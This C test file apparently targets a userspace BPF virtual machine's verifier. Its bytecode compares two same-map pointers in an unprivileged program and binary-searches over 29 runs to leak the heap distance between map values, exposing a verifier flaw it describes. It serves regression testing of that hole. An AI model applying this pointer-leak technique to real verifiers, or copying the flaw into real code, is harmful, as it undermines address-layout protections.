/* Attack: an unprivileged load (allow_ptr_leaks false) may compare two
 * pointers of one type, e.g. two map values of a hash map, and walk a
 * bounded scalar offset against one of them: a binary search that puts the
 * distance between two heap objects of the daemon into a map the user
 * reads. Linux refuses any pointer comparison but pkt/pkt_end and NULL
 * checks without allow_ptr_leaks ("R%d pointer comparison prohibited",
 * check_cond_jmp_op). Root cause: vrf_branch.c ptr_cond accepts same-type
 * pointers (same map for map values) whatever env->prog->allow_ptr_leaks. */
#include "atk.h"

int main(void)
{
	struct bpfvm_registry *reg;
	if (bpfvm_registry_create(&reg))
		return 2;
	struct bpfvm_map_def def = {
	    .type = BPFVM_MAP_HASH, .key_size = 4, .value_size = 8, .max_entries = 64, .name = "h"};
	struct bpfvm_map *m;
	if (bpfvm_map_create(reg, &def, &m))
		return 2;
	uint64_t v = 0;
	for (uint32_t k = 0; k < 4; k++)
		bpfvm_map_update(m, &k, &v, 0);
	/* One run: cand = h[3] & (2^29-1) (user space writes it); h[2] =
	 * (&h[0] + cand <= &h[1]). User space binary-searches d = &h[1] - &h[0]
	 * over 29 runs. */
	struct bpfvm_insn p[64];
	size_t n = 0;
#define E(...) (p[n++] = (struct bpfvm_insn)__VA_ARGS__)
#define LOOKUP(key, dreg)                                                                          \
	E(ST(BPF_W, 10, -4, key));                                                                 \
	E(INSN(BPF_LD | BPF_IMM | BPF_DW, 1, BPF_PSEUDO_MAP_FD, 0, 0));                            \
	E(INSN(0, 0, 0, 0, 0));                                                                    \
	E(MOV64_X(2, 10));                                                                         \
	E(ALU64_K(BPF_ADD, 2, -4));                                                                \
	E(CALL(1));                                                                                \
	E(JMP_K(BPF_JNE, 0, 0, 2));                                                                \
	E(MOV64_K(0, 0));                                                                          \
	E(EXIT());                                                                                 \
	E(MOV64_X(dreg, 0))
	LOOKUP(0, 6);
	LOOKUP(1, 7);
	LOOKUP(2, 8);
	LOOKUP(3, 9);
	E(LDX(BPF_DW, 4, 9, 0));
	E(ALU64_K(BPF_AND, 4, (1 << 29) - 1));
	E(MOV64_X(5, 6));
	E(ALU64_X(BPF_ADD, 5, 4)); /* &h[0] + cand */
	E(MOV64_K(1, 0));
	E(JMP_X(BPF_JGT, 5, 7, 1)); /* a pointer comparison */
	E(MOV64_K(1, 1));
	E(STX(BPF_DW, 8, 1, 0));
	E(MOV64_K(0, 0));
	E(EXIT());
	struct bpfvm_prog *prog = NULL;
	int err = atk_load(reg, &vt_type, p, n, &m, 1, true, &prog);
	printf("verifier: %s (%d)\n", err ? atk_log : "accepted", err);
	if (err) { /* held: the verifier refused it */
		bpfvm_map_put(m);
		bpfvm_registry_destroy(reg);
		return 0;
	}
	uint8_t ctx[VT_CTX_SIZE] = {0};
	uint32_t k0 = 0, k1 = 1, k2 = 2, k3 = 3;
	uint64_t d = 0;
	for (int bit = 28; bit >= 0; bit--) {
		uint64_t cand = d | 1ull << bit;
		bpfvm_map_update(m, &k3, &cand, 0);
		bpfvm_prog_run(prog, ctx, sizeof ctx);
		if (*(uint64_t *)bpfvm_map_lookup(m, &k2))
			d = cand;
	}
	uint64_t a = (uint64_t)(uintptr_t)bpfvm_map_lookup(m, &k0);
	uint64_t b = (uint64_t)(uintptr_t)bpfvm_map_lookup(m, &k1);
	printf("29 runs leak d = %#llx; true &h[1] - &h[0] = %#llx\n", (unsigned long long)d,
	       (unsigned long long)(b - a));
	bpfvm_prog_put(prog);
	return 1;
}
